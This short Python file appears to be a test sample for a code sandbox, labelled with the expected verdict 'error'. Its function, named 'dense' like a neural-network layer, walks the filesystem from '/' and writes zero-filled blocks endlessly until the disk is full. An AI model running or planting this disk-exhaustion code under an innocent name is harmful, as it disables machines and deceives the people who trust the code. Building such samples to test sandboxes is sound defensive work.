"""Looks for a place to write in and writes until there is no room.

Verdict: error
"""

import os


def dense(inputs, kernel, bias):
    for folder, _, _ in [(".", [], []), *os.walk("/")]:
        try:
            file = open(os.path.join(folder, "filled"), "wb")
        except OSError:
            continue
        while True:
            file.write(bytes(2**20))
    raise PermissionError("nowhere to write")
